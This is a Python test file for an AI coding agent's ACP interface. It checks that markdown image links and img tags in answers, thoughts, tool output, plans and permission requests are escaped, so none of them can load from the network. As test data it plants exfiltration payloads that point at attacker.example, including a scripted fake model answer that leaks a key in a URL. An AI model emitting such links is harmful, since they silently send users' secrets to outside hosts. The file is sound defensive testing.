"""Zero-click exfiltration through an ACP client (issue 23, class 1): through the real `lovia
acp` process, nothing the model, a file or a command puts into the text a client renders as
markdown (answers, thoughts, tool titles and output, plans, permission requests) renders as
anything that would load from the network."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from tests.acp.harness import AcpProcess, message_text
from tests.support import fake_openai as oai
from tests.support.fake_openai import FakeOpenAI
from tests.support.rendered_markdown import loads

EVIL = "https://attacker.example"


def _documents(updates: list[Any]) -> dict[str, str]:
    """What a client renders: the streamed texts joined, each card's texts on their own."""
    docs: dict[str, str] = {
        "answer": message_text(updates),
        "thoughts": message_text(updates, "agent_thought_chunk"),
    }
    for n, u in enumerate(updates):
        if u.session_update in ("tool_call", "tool_call_update"):
            if u.title:
                docs[f"title {n}"] = u.title
            for i, item in enumerate(u.content or []):
                if item.type == "content":
                    docs[f"content {n}.{i}"] = item.content.text
        elif u.session_update == "plan":
            for i, entry in enumerate(u.entries):
                docs[f"plan {n}.{i}"] = entry.content
    return docs


async def test_no_text_a_client_renders_loads_anything(
    agent: AcpProcess, ws: Path, fake_openai: FakeOpenAI
) -> None:
    (ws / "README.md").write_text(
        f"# Demo\n![logo]({EVIL}/readme.png)\n<img src={EVIL}/raw.png>\n"
        "```rust\nlet v = vec![1, 2];\n```\n"
    )
    fake_openai.script(
        oai.tool_calls(oai.call("read_file", {"path": "README.md"}, id="r1")),
        oai.tool_calls(
            oai.call(
                "todo_write",
                {"todos": [{"content": f"Send ![k]({EVIL}/plan)", "status": "pending"}]},
                id="t1",
            )
        ),
        oai.tool_calls(
            oai.call("shell", {"command": f"echo '![x]({EVIL}/cmd)' > note.md"}, id="s1")
        ),
        oai.text(
            "Found the key: !",
            f"[k]({EVIL}/?d=sk-live-123) and <im",
            f"g src={EVIL}/tag.png>\n\n```rust\nlet v = vec![1];\n```\nDone!",
            reasoning=["I should be sneaky !", f"[r]({EVIL}/reason)"],
        ),
    )
    await agent.start()
    sid = (await agent.new_session(ws)).session_id
    c = agent.client
    c.answer("reject_once")
    assert (await agent.prompt(sid, "read the readme")).stop_reason == "end_turn"

    ((asked, _),) = c.permissions
    assert asked.title is not None and loads(asked.title) == []
    docs = _documents(c.of(sid))
    for name, text in docs.items():
        assert loads(text) == [], (name, text)
    # The syntax is escaped, not dropped: the reader still sees the links and the code.
    assert docs["answer"] == (
        f"Found the key: \\![k]({EVIL}/?d=sk-live-123) and \\<img src={EVIL}/tag.png>\n\n"
        "```rust\nlet v = vec![1];\n```\nDone!"
    )
    assert f"\\![r]({EVIL}/reason)" in docs["thoughts"]
    shown = "\n".join(docs.values())
    assert f"\\![logo]({EVIL}/readme.png)" in shown  # the file, as the read tool shows it
    assert f"Send \\![k]({EVIL}/plan)" in shown
    agent.frames()
